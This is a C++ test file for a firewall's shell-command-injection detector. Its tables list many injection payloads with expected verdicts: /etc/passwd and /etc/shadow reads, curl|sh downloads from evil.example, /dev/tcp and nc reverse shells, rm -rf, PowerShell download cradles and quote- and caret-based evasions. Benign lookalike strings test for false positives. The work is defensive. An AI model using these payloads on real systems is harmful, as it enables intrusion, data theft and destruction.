@@ -1,0 +1,572 @@
+// Tokens of command lines, evidence and verdicts: attacks, other spellings of them, and what looks like them.
+#include <memory_resource>
+#include <string>
+#include <string_view>
+
+#include <gtest/gtest.h>
+
+#include "detect/analyze/shell/shell_lexer.h"
+#include "detect/analyze/shell/shell_matcher.h"
+#include "detect/core/octets.h"
+#include "tests/detect/analyze/analyze_support.h"
+
+namespace wafd::detect {
+namespace {
+
+struct Row {
+  const char* text;
+  const char* verdict;
+};
+
+constexpr Row kAttacks[] = {
+    // cmd.exe's switches in the word of its command; numbers in place of words; programs by their paths
+    {"127.0.0.1&dir/s c:\\", "low"},
+    {"1|dir/b/s", "balanced"},
+    {"1&del/q c:\\temp\\x", "balanced"},
+    {"a@b.c&&echo $((1337*3))", "balanced"},
+    {"1;expr 268409241 - 2", "-"},
+    {"x&timeout /t 5", "balanced"},
+    {"1|ps aux|", "balanced"},
+    {"x;ls env:", "low"},
+    {"x;powershell Get-Process", "balanced"},
+    {"1;/bin/busybox MIRAI", "balanced"},
+    {"127.0.0.1;cat /etc/passwd", "low"},
+    {"127.0.0.1 && cat /etc/hosts", "low"},
+    {"x | curl http://evil.example/a.sh", "low"},
+    {"1||ping -c 4 10.0.0.7||", "low"},
+    {"a;wget evil.example/x -O /tmp/x", "low"},
+    {"$(curl evil.example)", "low"},
+    {"`nslookup evil.example`", "low"},
+    {"\n/bin/cat /etc/shadow", "balanced"},
+    {"x|bash -i", "balanced"},
+    {"a;rm -rf /var/www", "low"},
+    {"1;echo aWQ=|base64 -d|sh", "low"},
+    {"'; ls -la /home #", "low"},
+    {"\"; uname -a; \"", "low"},
+    {"1 & type c:\\windows\\win.ini", "low"},
+    {"x|cmd /c dir", "low"},
+    {"127.0.0.1;whoami", "balanced"},
+    {"127.0.0.1 | id", "balanced"},
+    {"|ls", "balanced"},
+    {"10.0.0.1%0a|pwd", "balanced"},
+    {"$(id)", "balanced"},
+    {"`id`", "balanced"},
+    {"a.txt;sleep 10", "balanced"},
+    {"<(cat secret)", "balanced"},
+    {"${`id`}", "balanced"},
+    {";weirdtool --version", "balanced"},
+    {"f;a=x;$a /etc/passwd", "balanced"},
+    {"sort|id", "balanced"},
+    {"cat /etc/passwd", "balanced"},
+    {"wget http://evil.example/x.sh", "balanced"},
+    {"bash -c id", "balanced"},
+    {"ping -c 3 evil.example", "balanced"},
+    {"powershell -enc SQBFAFgA", "balanced"},
+    {"cmd.exe /c whoami", "balanced"},
+    {"strace ifconfig", "balanced"},
+    {"Invoke-WebRequest http://evil.example/a.ps1", "balanced"},
+    // Arguments by the tool's own words, groups, input, programs by their folder
+    {"& net user", "balanced"},
+    {"8.8.8.8 & net localgroup administrators", "balanced"},
+    {"|reg query HKLM", "balanced"},
+    {"10.0.0.7;ip addr", "balanced"},
+    {";apt install nmap", "balanced"},
+    {";mv a b", "balanced"},
+    {";(id)", "balanced"},
+    {"127.0.0.1;(whoami)", "balanced"},
+    {"10.0.0.7||(id)", "balanced"},
+    {";{ id;}", "balanced"},
+    {"x;cat<file", "balanced"},
+    {";cat *", "balanced"},
+    {";./x", "balanced"},
+    {"; /tmp/.x/miner -o pool", "balanced"},
+    {"whoami", "strict"},
+    {"whoami\r\n", "strict"},
+    {"& dir c:\\", "low"},
+    // Disguises
+    {"x;c'a't /etc/passwd", "balanced"},
+    {"x;wh``oami", "balanced"},
+    {"x;who$@ami", "balanced"},
+    {"cat$IFS/etc/passwd", "balanced"},
+    {"x;cat${IFS}a.txt", "balanced"},
+    {"/?"
+     "?"
+     "?/c?t /etc/hosts",
+     "balanced"},
+    {"x;/bin/c[a]t a", "balanced"},
+    {"${PATH:0:1}etc", "balanced"},
+    {"$'\\x77\\x68oami' -x", "balanced"},
+    {"x&w^h^o^a^m^i", "balanced"},
+    // Fixed shapes
+    {"() { :;}; /bin/ping x", "low"},
+    {"bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "low"},
+    {"exec 5<>/dev/tcp/evil.example/80", "low"},
+    {"id > shell.php", "balanced"},
+    {"IEX(New-Object Net.WebClient).DownloadString('http://evil.example')", "balanced"},
+    {"%COMSPEC% /c dir", "balanced"},
+    {"for /f %i in (a.txt) do echo %i", "balanced"},
+    {"if not exist c:\\x.txt (del y)", "balanced"},
+    {"IF /I \"%var%\"==\"x\" ( ECHO found )", "balanced"},
+    {"f(){ f|f& };f", "balanced"},
+    {"deploy() { rm x; }; deploy", "balanced"},
+    {"() {", "low"},
+    {"alias ll=curl", "balanced"},
+    {"alias -g x=id", "balanced"},
+    {"{,ifconfig}", "balanced"},
+    {"{cat,/etc/passwd}", "balanced"},
+    {"{id,}", "balanced"},
+    {"x;{wget,http://203.0.113.9/x,-O,/tmp/x}", "balanced"},
+    {"x;`cat<<<ifconfig`", "low"},
+    {"pi<()ng 127.0.0.1", "balanced"},
+    {"a=nc&&$a -nlvp 555", "balanced"},
+    {"d=/dev&&(sh)0>$d/tcp/10.0.0.1/80", "low"},
+    {"x;$_at /et$_c/pas$_swd", "balanced"},
+    {"/usr/bin/id", "balanced"},
+    {"bin/bash", "balanced"},
+    {"c:\\windows\\system32\\cmd.exe", "balanced"},
+    {"nohup id", "balanced"},
+    {"time who", "strict"},
+    {"gcc-12 --version", "strict"},
+    {"x;python3.11 -c 1", "low"},
+    {"git --version", "strict"},
+    {"npm i --save-dev x@^1.2", "strict"},
+    {"docker run -it --rm x", "strict"},
+    {"sudo apt-get install -y nginx", "strict"},
+    {"7;git --version", "balanced"},
+    {"7|npm i --save-dev x", "balanced"},
+    {"x && docker ps -a", "balanced"},
+    {"gcc -wrapper sh,-c,id .", "balanced"},
+    {"bash -c id", "balanced"},
+    {"find / -perm -4000", "balanced"},
+    {"x & cat /etc/passwd", "low"},
+    {"x & ls /", "low"},
+    {"|id|", "balanced"},
+    {"| id", "balanced"},
+    {"strace -o x curl", "-"},
+    {"ls -la", "balanced"},
+    {"cat /srv/x/y.gz", "balanced"},
+    {"cat /et*/*wd", "balanced"},
+    {"ansible-playbook site.yml", "balanced"},
+    {"ansible-vault decrypt secret", "balanced"},
+    {"visudo", "-"},
+    {"x&bcdboot /r file", "balanced"},
+    {"Get-ChildItem -Path c:\\", "balanced"},
+    {"[Convert]::FromBase64String('aQ==')", "balanced"},
+    {".shell id", "balanced"},
+    {"1;\n.system id", "balanced"},
+    {"\\! id", "balanced"},
+    {">/tmp/x", "balanced"},
+    {"$((1+1))", "strict"},
+    {"!!", "strict"},
+    {"~-1", "strict"},
+    {"\r\nMAIL FROM:<a@mail.example>", "balanced"},
+    {"\r\na001 EXAMINE INBOX", "balanced"},
+    {"\r\nRETR 12", "balanced"},
+    {"\r\nQUIT", "strict"},
+    // The shell itself, files in the place of a substitution or behind <
+    {";$0<<<id", "balanced"},
+    {"$0<<<id", "balanced"},
+    {"$(</etc/passwd)", "low"},
+    {"x`</etc/hosts`", "low"},
+    {"cat</etc/passwd", "balanced"},
+    {"x;cat<a.txt", "balanced"},
+    {"x|cat</srv/x", "low"},
+    {"x;sh</tmp/x", "balanced"},
+    {"x;sh<../up/x", "balanced"},
+    {"x;cat</e*c/pass*", "low"},
+    {"x;ls ../..", "low"},
+    {"x;ls /", "low"},
+    {"x;ls / #", "low"},
+    {"x;find / #", "low"},
+    {"x & find / #", "low"},
+    {"x;id -$u", "balanced"},
+    {"^w^h^o^a^m^i", "balanced"},
+    {"a;id;b", "balanced"},
+    {"x|ls", "balanced"},
+    {"\"&calc&\"", "balanced"},
+    {"wmic process call create calc", "balanced"},
+    {"netsh advfirewall set allprofiles state off", "balanced"},
+    {"vssadmin delete shadows", "balanced"},
+    {"&(gcm *ke-e*) x", "balanced"},
+    {".(gal i*x) $x", "balanced"},
+    {"& ('who' + \"ami\")", "balanced"},
+    // Behind a tool's line what looks around still counts
+    {"git log; whoami", "balanced"},
+    {"git log | nc -e /bin/sh 203.0.113.9 80", "low"},
+    {"docker ps && cat /etc/shadow", "low"},
+    {"npm test; head -n 1 ~/.ssh/id_rsa", "low"},
+    {"1\n2\n3\n4; cat /etc/passwd", "low"},
+    // Options by which tools run programs
+    {"--use-compress-program=id", "balanced"},
+    {"--checkpoint=1 --checkpoint-action=exec=sh x.sh", "balanced"},
+    {"-oProxyCommand=id", "balanced"},
+    {"-o ProxyCommand=id x", "balanced"},
+    {"ssh://-oProxyCommand=id/x", "balanced"},
+    {"--upload-pack=id", "balanced"},
+    {"--receive-pack=\"sh x\"", "balanced"},
+    {"-c core.sshCommand=id", "balanced"},
+    {"--config=alias.clone=!id", "balanced"},
+    {"--open-files-in-pager=id", "balanced"},
+    {"-exec id ;", "balanced"},
+    {"-execdir /bin/sh -c x ;", "balanced"},
+    {"--rsh='sh -c id'", "balanced"},
+    {"-d auto_prepend_file=php://input", "balanced"},
+    {"-dallow_url_include=1 -dauto_prepend_file=php://input", "balanced"},
+    {"-OQueueDirectory=/tmp -X/var/www/x.php", "balanced"},
+    {"-be -X/var/www/html/a.php", "balanced"},
+    {"-XX:OnError=id", "balanced"},
+    {"-javaagent:/tmp/x.jar", "balanced"},
+    {"-sOutputFile=%pipe%id", "balanced"},
+    {"--gpu-launcher=calc", "balanced"},
+    {"--pager=/bin/sh", "balanced"},
+};
+
+constexpr Row kBenign[] = {
+    {"Uncaught Error: x at Object.eval (eval at <anonymous> (main.js:1))", "-"},
+    {"Read usr/a; see dir/s for more", "-"},
+    {"/api/ping", "-"},
+    {"yes; 2 or 3", "-"},
+    {"& net income of 2023", "-"},
+    {"a net user of services", "-"},
+    {"(x|(id))", "-"},
+    {"^(a|(date))$", "-"},
+    {"dog;cat<br>more", "-"},
+    {"<h2>body & head</h2><ul><li>a</li></ul><p><img src=\"/uploads/a.jpg\" width=\"300\" /></p>", "-"},
+    {"python -snake", "strict"},
+    {"make && make test && sudo make install", "strict"},
+    {"red;cat<b>bold</b>", "-"},
+    {"cat & dog", "-"},
+    {"dog & cat", "-"},
+    {"salt & pepper; bread | butter", "-"},
+    {"Tom && Jerry", "-"},
+    {"rock'n'roll", "-"},
+    {"I don't know if it's ok; find out more about us", "-"},
+    {"a < b && c > d", "-"},
+    {"AT&T", "-"},
+    {"name;id;date", "-"},
+    {"price > 100 | sort by name", "-"},
+    {"text/html; charset=utf-8", "-"},
+    {"&lt;id&gt; is &quot;x&quot;", "-"},
+    {"https://shop.example/?a=b;c=d&id=5", "-"},
+    {"$(document).ready", "-"},
+    {"$(this).find('a')", "-"},
+    {"Hello ${name}", "-"},
+    {"It costs $5; more or less", "-"},
+    {"C:\\Users\\tom\\Documents\\file.txt", "-"},
+    {"Use `ls` to list files and `cat` to read them.", "-"},
+    {"at sunrise; echo of the past", "-"},
+    {"Mozilla/5.0 (X11; Linux x86_64; rv:109.0) Gecko/20100101 Firefox/115.0", "-"},
+    {"curl/7.88.1", "-"},
+    {"HEAD /blog/index.html", "-"},
+    {"GET https://shop.example/a", "-"},
+    {"Wget/1.21.3", "-"},
+    {"host: example; type: text", "-"},
+    {"function(){return a||b;}", "-"},
+    {"if (x) { print(y); }", "-"},
+    {"Error\n    at foo (a.js:1:2)\n    at bar (b.js:3:4)\n    at baz", "-"},
+    {"() => { return 1; }", "-"},
+    {"{\"id\":1,\"date\":\"2024-01-01\",\"type\":\"x;y\"}", "-"},
+    {"find the best price", "-"},
+    {"sort -- not sorted", "-"},
+    {"time to go", "-"},
+    {"java", "-"},
+    {"more info", "-"},
+    {"Вопрос: кто там; что делать", "-"},
+    {"猫 & 犬; 鳥 | 魚", "-"},
+    {"if not today then tomorrow", "-"},
+    {"for %s in the list", "-"},
+    {"SGVsbG8=;base64,AAAA", "-"},
+    {"R&D; sales", "-"},
+    {"cat food", "-"},
+    {"price $5", "-"},
+    {"a|b", "-"},
+    {"session=abc; id=5; date=today", "-"},
+    {"a{color:red;top:0;left:1px}", "-"},
+    {"{id,name,date}", "-"},
+    {"{id: http://shop.example/, name: x}", "-"},
+    {"query { user(id: 1) { id name } }", "-"},
+    {"2024-01-01 10:00:00 GET /path?id=1&sort=date 200", "-"},
+    {"Wall Street; more or less", "-"},
+    {"python 3 tutorial", "-"},
+    {"head of sales", "-"},
+    {"find x for y", "-"},
+    {"the alias \"pineapple\" online", "-"},
+    {"const f = () => { return 1; }", "-"},
+    {"function a() { return b; } a.c", "-"},
+    {"First line\nlist of things\nuser story\n", "-"},
+    {"12 top songs\n10 more", "-"},
+    {"see ./a/b and ../c", "-"},
+    {"I use `git` and (id) here", "-"},
+    {"(type) or (file)", "-"},
+    {"https://shop.example/a?x=1&id&sort", "-"},
+    {"Hello!! ~ 5", "-"},
+    {"5 > 3", "-"},
+    {"~tom", "-"},
+    {"The date; the time; the host", "-"},
+    {"get-started", "-"},
+    {"git commit -m \"exec load\"", "-"},
+    {"git commit -m exec load", "-"},
+    {"pip install --upgrade pip", "-"},
+    {"yarn add --dev eslint", "-"},
+    {"cargo build --release", "-"},
+    {"kubectl get pods -n web", "-"},
+    {"make -j4 all", "-"},
+    {"Bash and Curl v. Test", "-"},
+    {"Script and Ping v. Byte", "-"},
+    {"Bash bar w/ Cat food", "-"},
+    {"Echo dot & Cat tree set / \"Midnight\"", "-"},
+    {"Tail light & More milk set / #ff8800", "-"},
+    {"Perl earrings & Python snake toy set / noir", "-"},
+    {"Cat food; dog food 1/2\" x 5' 5\"", "-"},
+    {"78x Cat food; dog food @ $999.24 each = €48,44", "-"},
+    {"tablet 10\" set / off-white", "-"},
+    {"| name | id |\n|---|---|\n| 7 | 6 |", "-"},
+    {"| path | node |", "-"},
+    {"-----\nBash & Sons\nSort box", "-"},
+    {"content-type: text/html", "-"},
+    // Dashes, angle brackets, ampersands that are none of a shell's
+    {"-- exec summary", "-"},
+    {"--verbose", "-"},
+    {"-5 degrees", "-"},
+    {"-x", "-"},
+    {"--pager", "-"},
+    {"--filter=blue", "-"},
+    {"--require=all", "-"},
+    {"-o output.txt", "-"},
+    {"-d name=Tom", "-"},
+    {"-c red=1", "-"},
+    {"--exec=yes", "-"},
+    {"-- \nTom", "-"},
+    {"-run, jump and swim", "-"},
+    {"my cat</b> and <i>dog</i>", "-"},
+    {"x;cat</td><td>7", "-"},
+    {"insert && execute || sleep <3", "-"},
+    {"wait for && sort || kill </3!", "-"},
+    {"insert && order || kill <33", "-"},
+    {"print && curl || touch -.-", "-"},
+    {"find && sort || print ._.", "-"},
+    {"drop && select || kill :/", "-"},
+    {"wait && wait || kill ...", "-"},
+    {"curl && sort || print ://", "-"},
+    {"Screw M6*40 & Tablet 10.1\" set / #ff8800", "-"},
+    {"$(<div>)", "-"},
+    {"Q&A (more) & B&B (\"sea view\")", "-"},
+    {"a.b (\"id\")", "-"},
+    {"calc(100% - 2px); top:0", "-"},
+    {"R&D; S&P", "-"},
+    {"a;b", "-"},
+    {"ab;id;cd", "-"},
+    {"^id$", "-"},
+    {"2^10", "-"},
+};
+
+struct Placed {
+  Location location;
+  std::string_view name;  // of the parameter
+  std::string_view text;
+  const char* verdict;
+};
+constexpr Location kQuery = Location::kQuery;
+constexpr Location kBody = Location::kBody;
+
+constexpr Placed kLookalikes[] = {
+    {kBody, "m", "x | Where-Object Status -eq Running", "low"},
+    {kBody, "m", "x | Where-Object { iex $_ }", "balanced"},
+    {kQuery, "v", "powershell get-content -tail", "balanced"},
+    {kQuery, "v", "powershell Get-Content -Path c:\\a.txt", "balanced"},
+    {kBody, "v", "/usr/bin/shopd -d", "balanced"},
+    {kBody, "v", "/usr/bin/curl -d", "balanced"},
+    {kBody, "v", "x;/usr/bin/shopd -d", "balanced"},
+    {kBody, "cmdline", "/bin/sh -c /usr/sbin/cron -f", "balanced"},
+    {kBody, "cmd", "/bin/sh -c /usr/sbin/cron -f", "balanced"},
+    {kQuery, "cmdline", "/bin/sh -c /usr/sbin/cron -f", "balanced"},
+    {kBody, "cmdline", "/bin/sh -c 'cat /etc/passwd'", "balanced"},
+    {kBody, "cmdline", "127.0.0.1;cat config.php", "balanced"},
+    {kBody, "commandline", "curl evil.example|sh", "low"},
+    {kQuery, "v", "tar -xzf vs tar -xvf", "balanced"},
+    {kQuery, "v", "ssh -L port forwarding", "balanced"},
+    {kQuery, "v", "tar -xzf a.tgz -C /tmp", "balanced"},
+    {kQuery, "v", "curl http://evil.example/x -o /var/www/x.php vs", "balanced"},
+    {kQuery, "v", "bash -i vs", "balanced"},
+    {kQuery, "v", "perl -e exec whoami", "balanced"},
+    {kQuery, "v", "bash -xeuv<<<id", "balanced"},
+    {kQuery, "v", "cat -n /etc/passwd vs", "balanced"},
+    {kBody, "m", "the folder had 80 GB; logrotate was broken", "strict"},
+    {kBody, "m", "80; logrotate -f broken", "balanced"},
+    {kBody, "m", "df -h: /dev/sda1 > 90%", "balanced"},
+    {kBody, "m", "df -h /dev/sda1", "balanced"},
+    {kQuery, "v", "File \"/usr/lib/python3/x.py\", line 3", "-"},
+    {kQuery, "v", "file \"/usr/lib/python3/x.py\"", "balanced"},
+    {kBody, "m", "web CRON[123]: (root) CMD (/usr/bin/php /srv/cron.php > /dev/null 2>&1)", "-"},
+    {kBody, "m", "web CMD (/usr/bin/php /srv/cron.php > /dev/null 2>&1)", "-"},
+    {kBody, "m", "x;rm -rf /var/www #CRON[", "low"},
+    {kBody, "m", "x;rm -rf /var/www #CRON[1]: (root) CMD (x)", "low"},
+    {kQuery, "host", "127.0.0.1\ncat config.php\n:", "balanced"},
+    {kQuery, "host", "x;\ncurl http://evil.example/x|sh\n:", "low"},
+    {kBody, "m", "To install:\ncurl http://a.example/x | sh\nDone.", "low"},
+    {kBody, "m",
+     "Get-ChildItem -Path C:\\Logs -Filter *.log |\n  Sort-Object Length |\n  Remove-Item -WhatIf |\n  "
+     "Out-Null",
+     "balanced"},
+    {kBody, "m", "Get-ChildItem -Path C:\\Logs -Filter *.log |\nx\ny", "balanced"},
+    {kBody, "m", "Use `chmod 600 ~/.ssh/id_ed25519`. The file must be yours.", "balanced"},
+    {kBody, "m", "x `chmod 600 ~/.ssh/id_ed25519` y", "balanced"},
+};
+
+TEST(Shell, LookalikesAreToldApart) {
+  for (const Placed& row : kLookalikes)
+    EXPECT_EQ(verdict_of(analyzer_named("cmd"), row.text, row.location, false, row.name), row.verdict)
+        << row.text;
+}
+
+TEST(Shell, Attacks) {
+  const Analyzer& analyzer = analyzer_named("cmd");
+  for (const Row& row : kAttacks)
+    EXPECT_EQ(verdict_of(analyzer, row.text, kQuery, false, "v"), row.verdict) << row.text;
+}
+
+TEST(Shell, BenignTextPassesAtBalanced) {
+  const Analyzer& analyzer = analyzer_named("cmd");
+  for (const Row& row : kBenign)
+    EXPECT_FALSE(denied_at_balanced(verdict_of(analyzer, row.text, kQuery, false, "v"))) << row.text;
+}
+
+TEST(Shell, DocumentationIsNotDeniedAtBalanced) {
+  const Analyzer& analyzer = analyzer_named("cmd");
+  const std::string_view text =
+      "## Install\n\nFirst update the package list and install the server:\n\n    sudo apt-get update\n"
+      "    sudo apt-get install -y nginx\n\nThen run `systemctl restart nginx` and open the page in a "
+      "browser.\n"
+      "To see the log, use `tail -f error.log | grep -i warn`, or look at it with less.\n";
+  EXPECT_FALSE(denied_at_balanced(verdict_of(analyzer, text, kBody, false, "v")));
+}
+
+TEST(Shell, NamesOfFiles) {
+  const Analyzer& analyzer = analyzer_named("cmd");
+  EXPECT_EQ(verdict_of(analyzer, "x;cat /etc/passwd", Location::kFile, true), "low");
+}
+
+TEST(Shell, VariationsStayDenied) {
+  const Analyzer& analyzer = analyzer_named("cmd");
+  std::size_t made = 0;
+  for (const char* prefix : {"", "1", "127.0.0.1", "a.txt", "x'", "x\"", "-1"}) {
+    for (const char* op : {";", "|", "||", "&&", "&", "\n", " ; ", "|  ", "\n\t"}) {
+      for (const char* command : {"cat /etc/passwd", "c\"\"at /etc/passwd", "ca\\t /etc/passwd",
+                                  "/bin/cat /etc/passwd", "curl http://evil.example/", "whoami", "who''ami",
+                                  "ping -n 3 10.1.1.1", "nc -e /bin/sh 10.1.1.1 99", "head${IFS}/etc/shadow",
+                                  "python3 -c 'import os'", "ls -la", "sudo id -u", "{cat,/etc/passwd}"}) {
+        for (const char* suffix : {"", " #", ";", "||x", "\n", " & "}) {
+          const std::string text = std::string(prefix) + op + command + suffix;
+          if (std::string_view(command).starts_with("{")) continue;  // brace lists are a decoder's work
+          EXPECT_TRUE(denied_at_balanced(verdict_of(analyzer, text, kQuery, false, "v"))) << text;
+          ++made;
+        }
+      }
+    }
+  }
+  EXPECT_GT(made, 4000u);
+}
+
+// The same command in other spellings that its shell reads alike.
+TEST(Shell, OtherSpellingsStayDenied) {
+  const Analyzer& analyzer = analyzer_named("cmd");
+  constexpr const char* kOperators[] = {";", "|", "&&", "\n", "$("};
+  constexpr const char* kNames[] = {"cat", "head", "curl", "wget", "uname", "python", "base64", "ifconfig"};
+  constexpr const char* kHiding[] = {"''", "\"\"", "\\", "$@", "$*", "``", "${x}", "$()", "^", "<()"};
+  constexpr const char* kSpaces[] = {" ", "\t", "  ", "${IFS}", "$IFS"};
+  constexpr const char* kArguments[] = {"/etc/passwd", "-x /etc/hosts", "/etc/p''asswd", "/e*c/passwd"};
+  Dice dice(3);
+  std::size_t made = 0;
+  for (const char* name : kNames) {
+    for (const char* hidden : kHiding) {
+      for (const char* space : kSpaces) {
+        for (const char* argument : kArguments) {
+          std::string word = name;
+          word.insert(1 + dice.roll(word.size() - 1), hidden);
+          const char* op = kOperators[dice.roll(std::size(kOperators))];
+          const std::string text = std::string("1") + op + word + space + argument;
+          EXPECT_TRUE(denied_at_balanced(verdict_of(analyzer, text, kQuery, false, "v"))) << text;
+          ++made;
+        }
+      }
+    }
+  }
+  EXPECT_EQ(made, 8u * 10 * 5 * 4);
+}
+
+TEST(Shell, CmdExeReadsWithoutCaseAndThroughCarets) {
+  const Analyzer& analyzer = analyzer_named("cmd");
+  std::size_t made = 0;
+  for (const std::string name :
+       {"ipconfig", "systeminfo", "tasklist", "certutil", "powershell", "schtasks"}) {
+    for (const char* op : {"&", "|", "&&", "||", " & "}) {
+      for (std::size_t at = 1; at < name.size(); ++at) {
+        std::string word = name;
+        word[at] = static_cast<char>(word[at] - 32);
+        word.insert(at, "^");
+        const std::string text = "x" + std::string(op) + word + " /c c:\\x";
+        EXPECT_TRUE(denied_at_balanced(verdict_of(analyzer, text, kQuery, false, "v"))) << text;
+        ++made;
+      }
+    }
+  }
+  EXPECT_EQ(made, 5u * (7 + 9 + 7 + 7 + 9 + 7));
+}
+
+TEST(Shell, NamesOfFieldsAreNotCommandLines) {
+  const Analyzer& analyzer = analyzer_named("cmd");
+  EXPECT_EQ(verdict_of(analyzer, "whoami", Location::kQuery, true), "recorded");
+  EXPECT_EQ(verdict_of(analyzer, ";whoami", Location::kQuery, true), "balanced");
+  EXPECT_EQ(verdict_of(analyzer, "/bin/ping", Location::kUrlPath), "-");
+}
+
+// w[value], with ~ if hidden, ? if something in it is unknown; signs as they stand.
+std::string tokens(std::string_view text) {
+  std::pmr::monotonic_buffer_resource memory;
+  const shell::Variables variables;
+  shell::Lexer lexer(text, 0, variables, &memory);
+  std::string out;
+  for (shell::Token token = lexer.next(); token.kind != shell::TokenKind::kEnd; token = lexer.next()) {
+    out += out.empty() ? "" : " ";
+    if (token.kind == shell::TokenKind::kWord)
+      out += "w[" + std::string(token.value) + "]" + (token.hidden ? "~" : "") + (token.unknown ? "?" : "");
+    else
+      out += text.substr(token.begin, token.end - token.begin);
+  }
+  return out;
+}
+
+TEST(ShellLexer, Table) {
+  EXPECT_EQ(tokens(""), "");
+  EXPECT_EQ(tokens("a;id"), "w[a] ; w[id]");
+  EXPECT_EQ(tokens("c'a't s"), "w[cat]~ w[s]");
+  EXPECT_EQ(tokens("'cat' \\cat c\\at"), "w[cat] w[cat] w[cat]~");
+  EXPECT_EQ(tokens("$'\\x69\\144'"), "w[id]~");
+  EXPECT_EQ(tokens("i$@d ${x}id"), "w[id]~? w[id]~?");
+  EXPECT_EQ(tokens("cat$IFS/etc"), "w[cat] w[/etc]");
+  EXPECT_EQ(tokens("a&&b||c|&d&e"), "w[a] && w[b] || w[c] |& w[d] & w[e]");
+  EXPECT_EQ(tokens("a <<< b 2>&1 >c"), "w[a] <<< w[b] 2>& w[1] > w[c]");
+  EXPECT_EQ(tokens("x$(id)y"), "w[x] $( w[id] ) w[y]");
+  EXPECT_EQ(tokens("`id` (a)"), "` w[id] ` ( w[a] )");
+  EXPECT_EQ(tokens("\"a $(id) b\""), "w[a ] $( w[id] ) w[ b]");
+  EXPECT_EQ(tokens("a # b"), "w[a] # w[b]");
+}
+
+TEST(ShellMatcher, Evidence) {
+  const auto matcher = make_shell_matcher();
+  const auto found = [&](std::string_view text) { return evidence_of(*matcher, text); };
+  EXPECT_EQ(found("x;cat /etc/passwd"), "command(certain) [;cat /etc/passwd]");
+  EXPECT_EQ(found("x;id"), "command(likely) [;id]");
+  EXPECT_EQ(found("x;timeout 5 id"), "command(likely) [;timeout 5 id]");
+  EXPECT_EQ(found("x$(id)"), "substituted(likely) [$(id]");
+  EXPECT_EQ(found("x\nid -u"), "next_line(likely) [id -u]");
+  EXPECT_EQ(found("c'a't /etc/passwd"), "hidden(certain) [c'a't /etc/passwd]");
+  EXPECT_EQ(found("x;/b?n/id"), "command(likely) [;/b?n/id]");
+  for (const std::string_view text :
+       {"Java | Python | Ruby", "| top", "first; second; third", "2&times;4", "HEAD /index.html HTTP/1.1",
+        "look at `id` in the table", "a.b(\"id\")"})
+    EXPECT_EQ(found(text), "") << text;
+}
+
+}  // namespace
+}  // namespace wafd::detect
